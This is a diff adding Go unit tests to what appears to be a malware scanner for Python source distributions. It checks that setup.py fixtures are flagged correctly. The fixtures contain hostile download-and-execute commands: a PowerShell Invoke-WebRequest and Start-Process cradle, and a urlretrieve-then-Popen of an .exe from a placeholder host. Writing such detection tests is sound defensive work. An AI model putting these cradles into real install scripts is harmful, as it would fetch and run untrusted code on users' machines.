@@ -300,3 +300,26 @@ func TestWindowlessScriptOnImport(t *testing.T) {
 		t.Errorf("pythonw on import: %s %+v", r.Verdict, r.Findings)
 	}
 }
+
+func TestCommandThroughWrapper(t *testing.T) {
+	wrap := "import subprocess\ndef run(cmd, quiet=True):\n    p = subprocess.Popen(cmd, shell=True, stdout=subprocess.PIPE)\n    return p.stdout.read()\n"
+	r := sdist(t, map[string]string{"setup.py": wrap + "run('powershell -command Invoke-WebRequest -Uri https://example.invalid/i.exe -OutFile i.exe; Start-Process i.exe')\n"})
+	if r.Verdict != Malicious || !hasRule(r, "download-execute", Critical) {
+		t.Errorf("download cradle through a wrapper: %s %+v", r.Verdict, r.Findings)
+	}
+	r = sdist(t, map[string]string{"setup.py": wrap + "run('pkg-config --cflags libffi')\n"})
+	if r.Verdict != Clean {
+		t.Errorf("pkg-config through a wrapper: %s %+v", r.Verdict, r.Findings)
+	}
+}
+
+func TestProgramNamedOnlyAsArgument(t *testing.T) {
+	r := sdist(t, map[string]string{"setup.py": "import subprocess, urllib.request\ndata = urllib.request.urlopen('https://example.invalid/node.zip').read()\nsubprocess.check_call(['mklink', '/J', 'bin', 'node.exe'])\n"})
+	if r.Verdict == Malicious {
+		t.Errorf("link to node.exe after a download: %s %+v", r.Verdict, r.Findings)
+	}
+	r = sdist(t, map[string]string{"setup.py": "import subprocess, urllib.request\nurllib.request.urlretrieve('https://example.invalid/u.exe', 'u.exe')\nsubprocess.Popen('C:\\\\Temp\\\\u.exe')\n"})
+	if r.Verdict != Malicious {
+		t.Errorf("downloaded exe run: %s %+v", r.Verdict, r.Findings)
+	}
+}
